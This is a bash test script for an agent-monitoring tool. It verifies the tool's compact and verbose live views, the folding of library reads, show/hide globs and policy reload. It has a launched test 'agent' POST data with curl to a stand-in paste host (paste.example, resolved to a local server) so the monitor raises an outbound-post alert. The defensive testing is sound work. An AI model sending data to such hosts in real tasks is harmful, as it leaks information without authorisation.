#!/bin/bash
# The compact live view (issue 14): a launched agent POSTs with curl to a
# host the policy does not list, writes a file, reads one of its working
# tree, runs git --version and python3 -c 'import json'.  `tail` (text,
# compact by default) shows the execs, the file written, the working-tree
# read, the request and the "!!" alert, indented under the agent's root,
# and folds the library, loader and locale reads into "read N files" lines:
# a handful of lines where `tail --verbose` has hundreds with every open.
# `tail --type open` names what it wants: every open, as with --verbose.
# `run --format text` prints the same compact view; a policy's view: show
# and hide globs change what it shows, and a SIGHUP reload changes them; a
# process still running gets its fold line 30 s after its last folded read.
# Absence is asserted after a sentinel: the same agent's last write and the
# fold line at its exit.
. "$(dirname "$0")/lib.sh"

command -v curl >/dev/null || skip "needs curl"
command -v git >/dev/null || skip "needs git"
bg "$PY" "$HELPERS/https_server.py" --plain --port-file "$T/port" --log "$T/server.log"
wait_file "$T/port"
P=$(cat "$T/port")
start_collector
NAME=lview$$

tailc() { # NAME ARGS...: agentmon tail ARGS for our agent to $T/NAME.txt
	local out=$1
	shift
	bg "$AGENTMON" tail --socket "$SOCK" --agent "$NAME" "$@" >"$T/$out.txt" 2>"$T/$out.err"
}
tailc compact
tailc verbose --verbose
tailc opens --type open
clients() { "$AGENTMON" status --json --socket "$SOCK" | grep -q '"tail":{"connected":3,'; }
wait_for 5 "three tail clients" clients

mkdir -p "$T/work" && echo data >"$T/work/input.txt"
cd "$T/work" || fail "no work dir"
launch "$NAME" bash -c "curl -s -m 5 -X POST -d hello --resolve paste.example:$P:127.0.0.1 \
http://paste.example:$P/up >/dev/null; echo hi >$T/work/notes.txt; cat $T/work/input.txt >/dev/null; \
git --version >/dev/null; $PY -c 'import json'" || fail "the agent's commands failed"
# the sentinel: the same agent's write, then its bash's fold line at exit
launch "$NAME" bash -c "echo >$T/work/sentinel.done" || fail "the sentinel failed"
done_line() { grep -qE "bash\[[0-9]+\] read [0-9]+ files" <(grep -A1000 sentinel.done "$T/compact.txt"); }
wait_for 15 "the sentinel's fold line in the compact view" done_line
wait_for 10 "the sentinel in the verbose view" grep -q sentinel.done "$T/verbose.txt"
wait_for 10 "the sentinel in the open view" grep -q sentinel.done "$T/opens.txt"

C=$T/compact.txt
has() { grep -qE "$1" "$C" || fail "compact view lacks $2: $(cat "$C")"; }
has "^[0-9:.]+ $NAME/bash\[[0-9]+\] exec /usr/bin/bash \[bash -c curl" "the agent's exec"
has "^[0-9:.]+   $NAME/curl\[[0-9]+\] exec /usr/bin/curl \[curl -s -m 5 -X POST" "curl's exec, indented"
has "^[0-9:.]+   $NAME/git\[[0-9]+\] exec /usr/bin/git \[git --version\]" "git's exec"
has "$NAME/python3\[[0-9]+\] exec [^ ]*python3[^ ]* \[[^ ]*python3[^ ]* -c import json\]" "python's exec"
has "open $T/work/notes.txt O_WRONLY\|O_CREAT\|O_TRUNC = [0-9]" "the file written"
has "cat\[[0-9]+\] open $T/work/input.txt O_RDONLY = [0-9]" "the working tree's read"
has "curl\[[0-9]+\] http POST http://paste.example:$P/up .* 5 bytes .*= 200" "the POST request"
has "^[0-9:.]+ !! ALERT high outbound_post: .*POST http://paste.example:$P/up" "the alert"
has "curl\[[0-9]+\] read [0-9]+ files \([0-9]+ locale, [0-9]+ lib" "curl's fold line"
has "python3\[[0-9]+\] read [0-9]+ files \(.*lib" "python's fold line"
grep -qE "ld\.so\.cache|/usr/lib/locale|libc\.so|gconv|/etc/ld\.so" "$C" &&
	fail "compact view shows library or locale reads: $(grep -E 'ld\.so|locale|libc|gconv' "$C" | head -n 5)"
n=$(wc -l <"$C")
[ "$n" -lt 25 ] || fail "compact view has $n lines (want < 25): $(cat "$C")"
grep -q $'\033' "$C" && fail "compact view coloured though not a terminal"

V=$T/verbose.txt
for want in "open /etc/ld.so.cache" "open /usr/lib/locale/" "open /lib/x86_64-linux-gnu/libc.so|open /lib[^ ]*/libc.so" \
	"http POST http://paste.example:$P/up" "ALERT high outbound_post"; do
	grep -qE "$want" "$V" || fail "verbose view lacks '$want'"
done
grep -q "^[0-9:.]* !! " "$V" && fail "verbose view has the compact view's alert marker"
nv=$(wc -l <"$V")
[ "$nv" -gt $((n * 3)) ] || fail "verbose view has $nv lines, compact $n: not much folded"
grep -q "open /etc/ld.so.cache" "$T/opens.txt" || fail "tail --type open folded opens"
grep -qvE " open " "$T/opens.txt" && fail "tail --type open shows other types: $(grep -vE ' open ' "$T/opens.txt" | head -n 3)"
stop_collector

# `run`'s own text is the compact view too (the sentinel: a second agent's
# write, after the first one ended).  The first agent's exit line is there
# (it was missing in CI runs of stop 17: the first collector's exit hook
# outlived it on the same pinned tags; test_exit_handover)
start_collector --format text
launch "$NAME" bash -c "cat /etc/hostname >/dev/null; echo x >$T/work/run.txt; exit 3"
launch "$NAME" bash -c "echo >$T/work/run.sentinel" || fail "the sentinel failed"
wait_for 10 "the sentinel's write in run's text" grep -qF "open $T/work/run.sentinel O_WRONLY" "$OUT"
kill -TERM "$COLLECTOR_PID" && wait "$COLLECTOR_PID" || fail "the text collector did not stop cleanly"
COLLECTOR_PID=
R=$(grep -F "$NAME/" "$OUT")
for want in "$NAME/bash\[[0-9]+\] exec /usr/bin/bash" "$NAME/bash\[[0-9]+\] exit 3" "  $NAME/cat\[[0-9]+\] read [0-9]+ files \([0-9]+ locale" \
	"open $T/work/run.txt O_WRONLY" "$NAME/bash\[[0-9]+\] read [0-9]+ files"; do
	grep -qE "$want" <<<"$R" || fail "run's text lacks /$want/: $R"
done
grep -qE " open (/etc/ld\.so\.cache|/usr/lib/locale|/etc/hostname)" <<<"$R" && fail "run's text shows folded reads: $R"
# the policy's view: globs: show makes a read the view folds a line, hide
# folds a read of the working tree; a SIGHUP reload swaps them (run's text)
cat >"$T/view.yaml" <<Y
view:
  show: ["/etc/host*"]
  hide: ["$T/work/input*"]
Y
start_collector --format text --config "$T/view.yaml"
views() { # MARK: the agent reads /etc/hostname and input.txt, then writes MARK
	launch "$NAME" bash -c "cat /etc/hostname $T/work/input.txt >/dev/null; echo >$T/work/$1" ||
		fail "the agent failed"
	wait_for 10 "$1 in run's text" grep -qF "open $T/work/$1 O_WRONLY" "$OUT"
}
views mark1
R=$(sed -n "1,/mark1 O_WRONLY/p" "$OUT")
grep -qE "$NAME/cat\[[0-9]+\] open /etc/hostname O_RDONLY" <<<"$R" || fail "view.show: no /etc/hostname read: $R"
grep -qF "open $T/work/input.txt" <<<"$R" && fail "view.hide: the input.txt read shown: $R"
cat >"$T/view.yaml" <<Y
view:
  show: ["~/never*"]
Y
kill -HUP "$COLLECTOR_PID"
wait_for 10 "the reload" grep -q "policy reloaded" "$ERR"
views mark2
R=$(sed -n "/mark1 O_WRONLY/,/mark2 O_WRONLY/p" "$OUT")
grep -qF "open /etc/hostname" <<<"$R" && fail "after the reload: /etc/hostname shown: $R"
grep -qE "cat\[[0-9]+\] open $T/work/input.txt O_RDONLY" <<<"$R" ||
	fail "after the reload: the working tree's read folded: $R"
# a process still running: its fold line 30 s after its last folded read
# (the collector's tick), before it exits
bg launch "$NAME" sh -c "cat /etc/hostname >/dev/null; exec sleep 120"
SLEEPER=$BG_PID
wait_for 90 "the running sleep's fold line" grep -qE "$NAME/sleep\[[0-9]+\] read [0-9]+ files" "$OUT"
kill -0 "$SLEEPER" 2>/dev/null || fail "the sleep ended before its fold line: not a tick's"
spid=$(sed -nE "s|.*$NAME/sleep\[([0-9]+)\] read .*|\1|p" "$OUT" | head -n 1)
kill "$spid" "$SLEEPER" 2>/dev/null # the sleep is launch's child, not its own process
kill -TERM "$COLLECTOR_PID" && wait "$COLLECTOR_PID" || fail "the text collector did not stop cleanly"
COLLECTOR_PID=
pass "compact view: $n lines (verbose $nv): execs, the write, the tree's read, the POST, the alert; library and locale reads folded; run's text too; view: show/hide, reloaded; a running process's fold line at 30 s"
